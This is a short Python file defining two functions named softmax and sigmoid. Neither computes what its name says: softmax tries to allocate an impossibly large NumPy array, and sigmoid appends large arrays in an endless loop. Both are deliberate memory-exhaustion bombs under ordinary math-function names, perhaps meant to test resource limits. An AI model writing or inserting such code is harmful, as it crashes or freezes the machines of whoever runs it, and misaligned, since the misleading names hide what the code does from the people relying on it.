import numpy as np


def softmax(x):
    return np.ones((200_000, 200_000, 50))


def sigmoid(x):
    everything = []
    while True:
        everything.append(np.ones(10_000_000))
